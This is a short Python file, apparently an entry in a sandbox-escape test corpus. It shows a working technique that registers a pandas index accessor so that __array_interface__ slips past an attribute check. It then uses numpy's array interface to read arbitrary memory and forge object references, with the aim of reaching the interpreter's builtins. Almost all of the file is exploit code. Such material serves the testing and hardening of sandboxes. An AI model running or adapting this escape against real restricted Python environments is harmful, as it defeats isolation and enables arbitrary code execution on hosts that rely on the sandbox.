# technique: pandas' register_*_accessor sets a dunder on a package class (attr_check lets __array_interface__ through): an interface dict at any address, typestr |O forges references
# source: pandas.api.extensions.register_index_accessor, numpy array interface protocol
import numpy as np
import pandas as pd

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

at = [0, '|O']
class Iface(dict):
    def __init__(self, obj):
        dict.__init__(self, data=(at[0], False), shape=(1,), typestr=at[1], version=3)
def mem(addr, typestr):
    at[0], at[1] = addr, typestr
    return np.asarray(pd.Index([1]))
def r64(addr): return int(mem(addr, '<u8')[0])
def fakeobj(addr):
    b = bytearray(addr.to_bytes(8, 'little'))
    return mem(r64(id(b) + 32), '|O')[0]
def builtins_dict():
    pd.api.extensions.register_index_accessor(dn('array_interface'))(Iface)
    return fakeobj(r64(id(np.linalg.norm) + 24))
attempt('register_index_accessor(__array_interface__)', builtins_dict)
